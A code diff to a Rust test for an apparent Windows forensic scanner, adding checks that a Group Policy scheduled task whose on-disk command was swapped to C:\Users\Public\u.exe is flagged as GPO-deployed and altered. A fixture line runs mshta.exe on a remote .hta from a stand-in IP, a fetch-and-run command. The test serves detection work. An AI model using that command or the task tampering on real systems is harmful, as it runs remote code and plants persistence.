@@ -542,13 +542,54 @@ fn gpo_tasks_in_sysvol_and_the_members_cache() {
         r#"<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118ACCC}"><ImmediateTask clsid="{9F030EBD-1E5E-4d0e-A33A-1A5B7F1F6BE3}" name="UserOneShot" changed="2024-05-06 07:08:10" uid="{8}"><Properties action="C" name="UserOneShot" appName="mshta.exe" args="http://203.0.113.9/a.hta"/></ImmediateTask></ScheduledTasks>"#,
     )
     .unwrap();
+    // The member's cache of a machine policy whose item made a task that is on the machine —
+    // but that task now runs something else (authored to MS-GPPREF for this test).
+    let applied = root.join(
+        "ProgramData/Microsoft/Group Policy/History/{C1A2B3C4-0000-4000-8000-00000000AAAA}/Machine/Preferences/ScheduledTasks",
+    );
+    std::fs::create_dir_all(&applied).unwrap();
+    std::fs::write(
+        applied.join("ScheduledTasks.xml"),
+        r#"<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118ACCC}"><Task clsid="{2DEECB1C-261F-4e13-9B21-16FB83BC03BD}" name="Updater" changed="2024-05-06 07:08:11" uid="{7}"><Properties action="U" name="Updater" appName="C:\Tools\update.exe" args="/q"><Triggers><Trigger type="DAILY" startHour="9" startMinutes="0" beginYear="2024" beginMonth="5" beginDay="6" interval="1"/></Triggers></Properties></Task></ScheduledTasks>"#,
+    )
+    .unwrap();
+    std::fs::write(
+        root.join("Windows/System32/Tasks/Updater"),
+        r"<Task><Actions><Exec><Command>C:\Users\Public\u.exe</Command></Exec></Actions></Task>",
+    )
+    .unwrap();
     let r = Evidence::open(&root)
         .unwrap()
         .scan(ScanSet::none().tasks().services());
+    // One record for the task and the item that made it.
+    let updater: Vec<_> = r
+        .scheduled_tasks
+        .iter()
+        .filter(|t| t.task.name == "\\Updater")
+        .collect();
+    assert_eq!(updater.len(), 1, "{updater:#?}");
+    let u = updater[0];
+    assert_eq!(
+        u.task.sources,
+        [
+            foothold_windows::TaskSource::Xml,
+            foothold_windows::TaskSource::Gpo
+        ]
+    );
+    assert!(u.source.path.ends_with("System32/Tasks/Updater"));
+    assert!(u.gpo_source.as_ref().unwrap().path.ends_with(
+        "{C1A2B3C4-0000-4000-8000-00000000AAAA}/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml"
+    ));
+    let g = u.gpo.as_ref().unwrap();
+    assert_eq!(
+        (g.action.as_str(), g.uid.as_deref()),
+        ("update", Some("{7}"))
+    );
+    assert_eq!(u.task.flags, [foothold_windows::TaskFlag::GpoItemDiffers]);
     let gpo: Vec<_> = r
         .scheduled_tasks
         .iter()
-        .filter(|t| t.gpo.is_some())
+        .filter(|t| t.gpo.is_some() && t.task.name != "\\Updater")
         .collect();
     assert_eq!(gpo.len(), 2, "{:?}", r.errors);
     let owned = gpo.iter().find(|t| t.task.name == "\\OWNED").unwrap();
@@ -590,6 +631,16 @@ fn gpo_tasks_in_sysvol_and_the_members_cache() {
         owned.techniques.iter().any(|t| t == "T1484.001"),
         "{:?}",
         owned.techniques
+    );
+    let upd = findings
+        .iter()
+        .find(|(f, _)| f.subject.name == "\\Updater")
+        .map(|(f, _)| f)
+        .unwrap();
+    let ids: Vec<&str> = upd.reasons.iter().map(|x| x.id.as_str()).collect();
+    assert!(
+        ids.contains(&"gpo_deployed") && ids.contains(&"gpo_item_differs"),
+        "{ids:?}"
     );
     // The service item: what it sets, the password's presence, its reasons.
     let spooler = r
